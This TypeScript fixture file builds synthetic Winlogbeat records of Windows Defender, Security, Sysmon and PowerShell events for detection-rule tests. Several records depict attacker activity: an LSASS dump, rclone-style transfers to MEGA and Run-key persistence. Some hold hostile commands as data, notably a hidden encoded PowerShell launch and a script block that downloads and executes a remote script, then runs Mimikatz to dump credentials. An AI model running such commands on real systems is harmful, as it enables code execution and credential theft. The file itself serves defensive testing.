// Windows events as Winlogbeat 8 ships them (no ingest pipeline: what leaves the
// shipper for Logstash or Vigil), written from the public documentation: Winlogbeat's
// exported fields and its collection test documents for the document's shape,
// Microsoft's "Microsoft Defender Antivirus event IDs and error codes", "Audit logon
// events" (4624, 4625) and "Audit process creation" (4688) pages, and Sysmon's event
// list (1, 3, 11, 16, 22) for the fields and their values. Hosts, accounts and
// addresses are made up; public addresses are from the documentation ranges.
// Shared by the decoder golden tests and test/detect/windows-sigma-rules.test.ts.

type Doc = Record<string, unknown>;

interface Shipped {
  timestamp: string;
  channel: string;
  provider: string;
  providerGuid: string;
  code: number;
  task: string;
  recordId: number;
  data: Record<string, string>;
  level?: string;
  outcome?: 'success' | 'failure';
  keywords?: string[];
  message?: string;
  user?: Doc;
  host?: string;
}

/** One Winlogbeat document: the shipper's own fields around the event's. */
function shipped(event: Shipped): Doc {
  const host = event.host ?? 'KT-PC-017';
  return {
    '@timestamp': event.timestamp,
    agent: { type: 'winlogbeat', version: '8.15.2', name: host, id: '5b0c8f5e-52c1-4a7f-9c55-0d4b2f2b7a11', ephemeral_id: 'a6a7a0f4-7f0e-4a52-9d0c-1f1e9b1c2d3e' },
    ecs: { version: '8.0.0' },
    event: {
      action: event.task,
      code: String(event.code),
      created: '2026-11-22T08:30:02.118Z',
      kind: 'event',
      provider: event.provider,
      ...(event.outcome === undefined ? {} : { outcome: event.outcome }),
    },
    host: {
      name: host,
      hostname: host,
      architecture: 'x86_64',
      os: { family: 'windows', platform: 'windows', type: 'windows', name: 'Windows 10 Pro', version: '10.0', build: '19045.4894', kernel: '10.0.19041.4894 (WinBuild.160101.0800)' },
    },
    log: { level: event.level ?? 'information' },
    ...(event.message === undefined ? {} : { message: event.message }),
    winlog: {
      api: 'wineventlog',
      channel: event.channel,
      computer_name: `${host}.sotc.local`,
      event_data: event.data,
      event_id: String(event.code),
      ...(event.keywords === undefined ? {} : { keywords: event.keywords }),
      opcode: 'Info',
      process: { pid: 3920, thread: { id: 5112 } },
      provider_guid: event.providerGuid,
      provider_name: event.provider,
      record_id: event.recordId,
      task: event.task,
      ...(event.user === undefined ? {} : { user: event.user }),
    },
  };
}

// ---- Microsoft Defender Antivirus (Microsoft-Windows-Windows Defender/Operational) ----

const DEFENDER_CHANNEL = 'Microsoft-Windows-Windows Defender/Operational';
const DEFENDER = 'Microsoft-Windows-Windows Defender';
const DEFENDER_GUID = '{11cd958a-c507-4ef3-b3f2-5fd9dfbd2c78}';
const SYSTEM_USER = { domain: 'NT AUTHORITY', identifier: 'S-1-5-18', name: 'SYSTEM', type: 'Well Known Group' };

/** The fields 1116-1119 share (MALWAREPROTECTION_STATE_MALWARE_*). */
function detection(overrides: Record<string, string>): Record<string, string> {
  return {
    'Product Name': 'Microsoft Defender Antivirus',
    'Product Version': '4.18.24090.11',
    'Detection ID': '{6B7E1C3A-1F0D-4D8B-9C2E-8E1F5A2B3C4D}',
    'Detection Time': '2026-11-22T08:29:58.412Z',
    'Threat ID': '2147519003',
    'Threat Name': 'Virus:DOS/EICAR_Test_File',
    'Severity ID': '5',
    'Severity Name': 'Severe',
    'Category ID': '42',
    'Category Name': 'Virus',
    FWLink: 'https://go.microsoft.com/fwlink/?linkid=37020&name=Virus:DOS/EICAR_Test_File&threatid=2147519003&enterprise=0',
    'Status Code': '1',
    State: '1',
    'Source ID': '3',
    'Source Name': 'Real-Time Protection',
    'Process Name': 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
    'Detection User': 'SOTC\\ketoan01',
    Path: 'file:_C:\\Users\\ketoan01\\Downloads\\eicar.com.txt',
    'Origin ID': '4',
    'Origin Name': 'Internet',
    'Execution ID': '0',
    'Execution Name': 'Unknown',
    'Type ID': '0',
    'Type Name': 'Concrete',
    'Pre Execution Status': '0',
    'Action ID': '9',
    'Action Name': 'Not Applicable',
    'Error Code': '0x00000000',
    'Error Description': 'The operation completed successfully. ',
    'Post Clean Status': '0',
    'Additional Actions ID': '0',
    'Additional Actions String': 'No additional actions required',
    'Security intelligence Version': 'AV: 1.421.123.0, AS: 1.421.123.0, NIS: 1.421.123.0',
    'Engine Version': 'AM: 1.1.24090.11, NIS: 1.1.24090.11',
    ...overrides,
  };
}

function defender(code: number, recordId: number, data: Record<string, string>, level = 'warning'): Doc {
  return shipped({
    timestamp: '2026-11-22T08:29:58.4213377Z',
    channel: DEFENDER_CHANNEL,
    provider: DEFENDER,
    providerGuid: DEFENDER_GUID,
    code,
    task: 'None',
    recordId,
    data,
    level,
    user: SYSTEM_USER,
  });
}

/** 1006 MALWAREPROTECTION_MALWARE_DETECTED, the older detection event (a scan finding). */
export const defender1006 = defender(1006, 9101, {
  'Product Name': 'Microsoft Defender Antivirus',
  'Product Version': '4.18.24090.11',
  'Detection Time': '2026-11-22T08:29:58.412Z',
  'Threat Name': 'Trojan:Win32/Emotet.PE!MTB',
  'Threat ID': '2147735426',
  'Severity ID': '5',
  'Severity Name': 'Severe',
  'Category ID': '8',
  'Category Name': 'Trojan',
  FWLink: 'https://go.microsoft.com/fwlink/?linkid=37020&name=Trojan:Win32/Emotet.PE!MTB&threatid=2147735426&enterprise=0',
  Path: 'file:_C:\\Users\\ketoan01\\AppData\\Local\\Temp\\hoadon_11_2026.exe',
  'Detection Type': 'Concrete',
  'Detection User': 'SOTC\\ketoan01',
  'Process Name': 'Unknown',
  'Signature Version': 'AV: 1.421.123.0, AS: 1.421.123.0, NIS: 1.421.123.0',
  'Engine Version': 'AM: 1.1.24090.11, NIS: 1.1.24090.11',
});

/** 1116 MALWAREPROTECTION_STATE_MALWARE_DETECTED: the EICAR test file, downloaded. */
export const defender1116 = defender(1116, 9102, detection({}));

/** 1116 from the script scanner (AMSI): a fileless detection in PowerShell. */
export const defender1116Amsi = defender(
  1116,
  9103,
  detection({
    'Threat ID': '2147725325',
    'Threat Name': 'Trojan:PowerShell/AmsiTamper.A',
    'Severity ID': '5',
    'Category ID': '8',
    'Category Name': 'Trojan',
    FWLink: 'https://go.microsoft.com/fwlink/?linkid=37020&name=Trojan:PowerShell/AmsiTamper.A&threatid=2147725325&enterprise=0',
    'Source ID': '10',
    'Source Name': 'AMSI',
    'Process Name': 'Unknown',
    Path: 'amsi:_\\Device\\HarddiskVolume3\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    'Origin ID': '0',
    'Origin Name': 'Unknown',
  }),
);

/** 1117 MALWAREPROTECTION_STATE_MALWARE_ACTION_TAKEN: the EICAR file quarantined. */
export const defender1117 = defender(
  1117,
  9104,
  detection({ 'Action ID': '2', 'Action Name': 'Quarantine', 'Post Clean Status': '0', 'Remediation User': 'NT AUTHORITY\\SYSTEM' }),
  'information',
);

/** 1118 MALWAREPROTECTION_STATE_MALWARE_ACTION_FAILED: quarantine of a file in a zip failed. */
export const defender1118 = defender(
  1118,
  9105,
  detection({
    'Threat ID': '2147814523',
    'Threat Name': 'Ransom:Win32/LockBit.AA!MTB',
    'Category ID': '8',
    'Category Name': 'Ransomware',
    FWLink: 'https://go.microsoft.com/fwlink/?linkid=37020&name=Ransom:Win32/LockBit.AA!MTB&threatid=2147814523&enterprise=0',
    'Process Name': 'C:\\Windows\\explorer.exe',
    Path: 'containerfile:_D:\\Share\\KeToan\\bang_luong.zip; file:_D:\\Share\\KeToan\\bang_luong.zip->bang_luong.exe',
    'Origin ID': '1',
    'Origin Name': 'Local machine',
    'Action ID': '2',
    'Action Name': 'Quarantine',
    'Error Code': '0x80508023',
    'Error Description': 'The program could not find the malware and other potentially unwanted software on this device. ',
  }),
);

/** 1119 MALWAREPROTECTION_STATE_MALWARE_ACTION_CRITICALLY_FAILED: removal failed. */
export const defender1119 = defender(
  1119,
  9106,
  detection({
    'Threat ID': '2147735426',
    'Threat Name': 'Trojan:Win32/Emotet.PE!MTB',
    'Category ID': '8',
    'Category Name': 'Trojan',
    FWLink: 'https://go.microsoft.com/fwlink/?linkid=37020&name=Trojan:Win32/Emotet.PE!MTB&threatid=2147735426&enterprise=0',
    'Process Name': 'Unknown',
    Path: 'file:_C:\\ProgramData\\svchost\\updater.exe',
    'Origin ID': '1',
    'Origin Name': 'Local machine',
    'Action ID': '3',
    'Action Name': 'Remove',
    'Error Code': '0x80070020',
    'Error Description': 'The process cannot access the file because it is being used by another process. ',
  }),
  'error',
);

const protection = { 'Product Name': 'Microsoft Defender Antivirus', 'Product Version': '4.18.24090.11' };

/** 5001 MALWAREPROTECTION_RTP_DISABLED: real-time protection is disabled. */
export const defender5001 = defender(5001, 9107, protection);
/** 5010 MALWAREPROTECTION_SCAN_FOR_MALWARE_DISABLED. */
export const defender5010 = defender(5010, 9108, protection);
/** 5012 MALWAREPROTECTION_SCAN_FOR_VIRUSES_DISABLED. */
export const defender5012 = defender(5012, 9109, protection);

/** 1001 MALWAREPROTECTION_SCAN_COMPLETED: nothing to report; an antivirus event with no action. */
export const defender1001 = defender(
  1001,
  9110,
  { ...protection, 'Scan ID': '{A1B2C3D4-0000-4000-8000-000000000001}', 'Scan Type': 'Antimalware', 'Scan Parameters': 'Quick Scan', Domain: 'SOTC', User: 'SYSTEM', 'Scan Time Hours': '0', 'Scan Time Minutes': '2', 'Scan Time Seconds': '41' },
  'information',
);

// ---- Security (channel Security, provider Microsoft-Windows-Security-Auditing) ----

const SECURITY = 'Microsoft-Windows-Security-Auditing';
const SECURITY_GUID = '{54849625-5478-4994-a5ba-3e3b0328c30d}';

function security(code: number, task: string, recordId: number, data: Record<string, string>, outcome: 'success' | 'failure', host = 'KT-PC-017'): Doc {
  return shipped({
    timestamp: '2026-11-22T08:31:12.5538764Z',
    channel: 'Security',
    provider: SECURITY,
    providerGuid: SECURITY_GUID,
    code,
    task,
    recordId,
    data,
    outcome,
    keywords: [outcome === 'success' ? 'Audit Success' : 'Audit Failure'],
    host,
  });
}

const machineSubject = {
  SubjectUserSid: 'S-1-5-18',
  SubjectUserName: 'SRV-FILE-01$',
  SubjectDomainName: 'SOTC',
  SubjectLogonId: '0x3e7',
};

/** 4624 logon type 10 (RemoteInteractive, RDP) by an admin account from a public address. */
export const security4624Rdp = security(
  4624,
  'Logon',
  552011,
  {
    ...machineSubject,
    TargetUserSid: 'S-1-5-21-3623811015-3361044348-30300820-1105',
    TargetUserName: 'Administrator',
    TargetDomainName: 'SOTC',
    TargetLogonId: '0x8a2f61',
    LogonType: '10',
    LogonProcessName: 'User32 ',
    AuthenticationPackageName: 'Negotiate',
    WorkstationName: 'SRV-FILE-01',
    LogonGuid: '{00000000-0000-0000-0000-000000000000}',
    TransmittedServices: '-',
    LmPackageName: '-',
    KeyLength: '0',
    ProcessId: '0x1c0c',
    ProcessName: 'C:\\Windows\\System32\\svchost.exe',
    IpAddress: '203.0.113.77',
    IpPort: '0',
    ImpersonationLevel: '%%1833',
    RestrictedAdminMode: '%%1843',
    VirtualAccount: '%%1843',
    ElevatedToken: '%%1842',
  },
  'success',
  'SRV-FILE-01',
);

/** 4624 logon type 2 (Interactive) at the console: an ordinary morning logon. */
export const security4624Console = security(
  4624,
  'Logon',
  552012,
  {
    SubjectUserSid: 'S-1-5-18',
    SubjectUserName: 'KT-PC-017$',
    SubjectDomainName: 'SOTC',
    SubjectLogonId: '0x3e7',
    TargetUserSid: 'S-1-5-21-3623811015-3361044348-30300820-1311',
    TargetUserName: 'ketoan01',
    TargetDomainName: 'SOTC',
    TargetLogonId: '0x2b8c1d',
    LogonType: '2',
    LogonProcessName: 'User32 ',
    AuthenticationPackageName: 'Negotiate',
    WorkstationName: 'KT-PC-017',
    ProcessId: '0x2f4',
    ProcessName: 'C:\\Windows\\System32\\svchost.exe',
    IpAddress: '127.0.0.1',
    IpPort: '0',
  },
  'success',
);

/** 4625 a failed network logon (type 3) from a public address: unknown user name. */
export const security4625 = security(
  4625,
  'Logon',
  552013,
  {
    SubjectUserSid: 'S-1-0-0',
    SubjectUserName: '-',
    SubjectDomainName: '-',
    SubjectLogonId: '0x0',
    TargetUserSid: 'S-1-0-0',
    TargetUserName: 'admin',
    TargetDomainName: 'SOTC',
    Status: '0xc000006d',
    FailureReason: '%%2313',
    SubStatus: '0xc0000064',
    LogonType: '3',
    LogonProcessName: 'NtLmSsp ',
    AuthenticationPackageName: 'NTLM',
    WorkstationName: 'KALI',
    TransmittedServices: '-',
    LmPackageName: '-',
    KeyLength: '0',
    ProcessId: '0x0',
    ProcessName: '-',
    IpAddress: '198.51.100.23',
    IpPort: '50122',
  },
  'failure',
  'SRV-FILE-01',
);

/** 4688 a process created (command-line auditing on): PowerShell with an encoded command. */
export const security4688 = security(
  4688,
  'Process Creation',
  552014,
  {
    SubjectUserSid: 'S-1-5-21-3623811015-3361044348-30300820-1311',
    SubjectUserName: 'ketoan01',
    SubjectDomainName: 'SOTC',
    SubjectLogonId: '0x2b8c1d',
    NewProcessId: '0x1a2c',
    NewProcessName: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
    TokenElevationType: '%%1938',
    ProcessId: '0x2160',
    CommandLine: 'powershell.exe -nop -w hidden -enc JABjAGwAaQBlAG4AdAAgAD0AIABOAGUAdwAtAE8AYgBqAGUAYwB0AA==',
    TargetUserSid: 'S-1-0-0',
    TargetUserName: '-',
    TargetDomainName: '-',
    TargetLogonId: '0x0',
    ParentProcessName: 'C:\\Windows\\System32\\cmd.exe',
    MandatoryLabel: 'S-1-16-8192',
  },
  'success',
);

// ---- Sysmon (channel Microsoft-Windows-Sysmon/Operational) ----

const SYSMON_CHANNEL = 'Microsoft-Windows-Sysmon/Operational';
const SYSMON = 'Microsoft-Windows-Sysmon';
const SYSMON_GUID = '{5770385F-C22A-43E0-BF4C-06F5698FFBD9}';

function sysmon(code: number, task: string, recordId: number, data: Record<string, string>): Doc {
  return shipped({
    timestamp: '2026-11-22T08:32:40.1187001Z',
    channel: SYSMON_CHANNEL,
    provider: SYSMON,
    providerGuid: SYSMON_GUID,
    code,
    task,
    recordId,
    data,
    user: SYSTEM_USER,
  });
}

/** Sysmon 1 whoami run as SYSTEM from a shell a service spawned. */
export const sysmon1Whoami = sysmon(1, 'Process Create (rule: ProcessCreate)', 88001, {
  RuleName: '-',
  UtcTime: '2026-11-22 08:32:40.117',
  ProcessGuid: '{9F32B55F-7C4E-6740-5803-000000000500}',
  ProcessId: '6420',
  Image: 'C:\\Windows\\System32\\whoami.exe',
  FileVersion: '10.0.19041.1 (WinBuild.160101.0800)',
  Description: 'whoami - displays logged on user information',
  Product: 'Microsoft® Windows® Operating System',
  Company: 'Microsoft Corporation',
  OriginalFileName: 'whoami.exe',
  CommandLine: 'whoami /all',
  CurrentDirectory: 'C:\\Windows\\system32\\',
  User: 'NT AUTHORITY\\SYSTEM',
  LogonGuid: '{9F32B55F-6FDD-6740-E703-000000000000}',
  LogonId: '0x3e7',
  TerminalSessionId: '0',
  IntegrityLevel: 'System',
  Hashes: 'SHA1=47E2C9CC3EC2C1ACB2C0A1F49D66C25A0B4C4B13,MD5=43C2D3293AD939241DF61B3630A9D3B6,SHA256=1D5491E3C468EE4B4EF6EDFF4BBC7D06EE83180F6F0B1576763EA2EFE049493A,IMPHASH=7FF0758B766F747CE57DFAC70743FB88',
  ParentProcessGuid: '{9F32B55F-7C4D-6740-5703-000000000500}',
  ParentProcessId: '5932',
  ParentImage: 'C:\\Windows\\System32\\cmd.exe',
  ParentCommandLine: 'cmd.exe /c whoami /all > C:\\Windows\\Temp\\w.txt',
  ParentUser: 'NT AUTHORITY\\SYSTEM',
});

/** Sysmon 1 Notepad opened by the user from Explorer: what most process starts look like. */
export const sysmon1Notepad = sysmon(1, 'Process Create (rule: ProcessCreate)', 88002, {
  RuleName: '-',
  UtcTime: '2026-11-22 08:33:02.451',
  ProcessGuid: '{9F32B55F-7C5E-6740-5A03-000000000500}',
  ProcessId: '7112',
  Image: 'C:\\Windows\\System32\\notepad.exe',
  FileVersion: '10.0.19041.3996 (WinBuild.160101.0800)',
  Description: 'Notepad',
  Product: 'Microsoft® Windows® Operating System',
  Company: 'Microsoft Corporation',
  OriginalFileName: 'NOTEPAD.EXE',
  CommandLine: '"C:\\Windows\\system32\\NOTEPAD.EXE" C:\\Users\\ketoan01\\Documents\\ghichu.txt',
  CurrentDirectory: 'C:\\Users\\ketoan01\\Documents\\',
  User: 'SOTC\\ketoan01',
  LogonGuid: '{9F32B55F-6FDD-6740-1DC8-2B0000000000}',
  LogonId: '0x2b8c1d',
  TerminalSessionId: '1',
  IntegrityLevel: 'Medium',
  Hashes: 'SHA1=B6D237154F2E528F0B503B58B025862D66B02B73',
  ParentProcessGuid: '{9F32B55F-6FDF-6740-7000-000000000500}',
  ParentProcessId: '4212',
  ParentImage: 'C:\\Windows\\explorer.exe',
  ParentCommandLine: 'C:\\Windows\\Explorer.EXE',
  ParentUser: 'SOTC\\ketoan01',
});

/** Sysmon 3 certutil opening an HTTPS connection to a public address. */
export const sysmon3Certutil = sysmon(3, 'Network connection detected (rule: NetworkConnect)', 88003, {
  RuleName: '-',
  UtcTime: '2026-11-22 08:34:11.902',
  ProcessGuid: '{9F32B55F-7CA3-6740-6103-000000000500}',
  ProcessId: '8044',
  Image: 'C:\\Windows\\System32\\certutil.exe',
  User: 'SOTC\\ketoan01',
  Protocol: 'tcp',
  Initiated: 'true',
  SourceIsIpv6: 'false',
  SourceIp: '10.20.30.41',
  SourceHostname: 'KT-PC-017.sotc.local',
  SourcePort: '52144',
  SourcePortName: '-',
  DestinationIsIpv6: 'false',
  DestinationIp: '192.0.2.44',
  DestinationHostname: '-',
  DestinationPort: '443',
  DestinationPortName: 'https',
});

/** Sysmon 11 a dump of LSASS's memory written to a temp folder. */
export const sysmon11LsassDump = sysmon(11, 'File created (rule: FileCreate)', 88004, {
  RuleName: '-',
  UtcTime: '2026-11-22 08:35:20.331',
  ProcessGuid: '{9F32B55F-7CB8-6740-6403-000000000500}',
  ProcessId: '8312',
  Image: 'C:\\Users\\ketoan01\\AppData\\Local\\Temp\\pd64.exe',
  TargetFilename: 'C:\\Users\\ketoan01\\AppData\\Local\\Temp\\lsass.dmp',
  CreationUtcTime: '2026-11-22 08:35:20.331',
  User: 'SOTC\\ketoan01',
});

/** Sysmon 22 a DNS query for MEGA's storage servers from a renamed rclone. */
export const sysmon22Mega = sysmon(22, 'Dns query (rule: DnsQuery)', 88005, {
  RuleName: '-',
  UtcTime: '2026-11-22 08:36:05.014',
  ProcessGuid: '{9F32B55F-7CC5-6740-6803-000000000500}',
  ProcessId: '9020',
  QueryName: 'gfs270n122.userstorage.mega.co.nz',
  QueryStatus: '0',
  QueryResults: '::ffff:89.44.169.135;',
  Image: 'C:\\Users\\ketoan01\\AppData\\Roaming\\svc\\sync.exe',
  User: 'SOTC\\ketoan01',
});

/** Sysmon 13 a Run key value set to a program in the user's AppData (persistence). */
export const sysmon13RunKey = sysmon(13, 'Registry value set (rule: RegistryEvent)', 88007, {
  RuleName: 'T1060,RunKey',
  EventType: 'SetValue',
  UtcTime: '2026-11-22 08:36:40.220',
  ProcessGuid: '{9F32B55F-7CC5-6740-6803-000000000500}',
  ProcessId: '9020',
  Image: 'C:\\Users\\ketoan01\\AppData\\Roaming\\svc\\sync.exe',
  TargetObject: 'HKU\\S-1-5-21-3623811015-3361044348-30300820-1311\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSync',
  Details: 'C:\\Users\\ketoan01\\AppData\\Roaming\\svc\\sync.exe -silent',
  User: 'SOTC\\ketoan01',
});

/** Sysmon 7 a DLL loaded from the user's Temp folder by rundll32. */
export const sysmon7ImageLoad = sysmon(7, 'Image loaded (rule: ImageLoad)', 88008, {
  RuleName: '-',
  UtcTime: '2026-11-22 08:36:50.004',
  ProcessGuid: '{9F32B55F-7CD2-6740-6A03-000000000500}',
  ProcessId: '9488',
  Image: 'C:\\Windows\\System32\\rundll32.exe',
  ImageLoaded: 'C:\\Users\\ketoan01\\AppData\\Local\\Temp\\x64.dll',
  FileVersion: '-',
  Description: '-',
  Product: '-',
  Company: '-',
  OriginalFileName: '-',
  Hashes: 'SHA256=0F5B1E6C3A2D4B5C6D7E8F90A1B2C3D4E5F60718293A4B5C6D7E8F90A1B2C3D4',
  Signed: 'false',
  Signature: '-',
  SignatureStatus: 'Unavailable',
  User: 'SOTC\\ketoan01',
});

/** Sysmon 16 Sysmon's configuration changed. */
export const sysmon16Config = sysmon(16, 'Sysmon config state changed', 88006, {
  UtcTime: '2026-11-22 08:37:00.000',
  Configuration: 'C:\\Windows\\Temp\\sysmonconfig.xml',
  ConfigurationFileHash: 'SHA256=6C1A3F1B9C9F1F1D2A2B3C4D5E6F708192A3B4C5D6E7F8091A2B3C4D5E6F7081',
});

/** Events that an office PC logs all day and that should raise nothing. */
export const benign = { security4624Console, sysmon1Notepad, defender1001 };

// ---- PowerShell (channel Microsoft-Windows-PowerShell/Operational) ----

/** 4104 script block logging: a script that loads Mimikatz into memory. */
export const powershell4104 = shipped({
  timestamp: '2026-11-22T08:38:14.7730012Z',
  channel: 'Microsoft-Windows-PowerShell/Operational',
  provider: 'Microsoft-Windows-PowerShell',
  providerGuid: '{A0C1853B-5C40-4B15-8766-3CF1C58F985A}',
  code: 4104,
  task: 'Execute a Remote Command',
  recordId: 31002,
  level: 'warning',
  data: {
    MessageNumber: '1',
    MessageTotal: '1',
    ScriptBlockText: "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.80/a.ps1'); Invoke-Mimikatz -DumpCreds",
    ScriptBlockId: '7d4f1e3a-9b2c-4c1d-8e5f-0a1b2c3d4e5f',
    Path: '',
  },
});
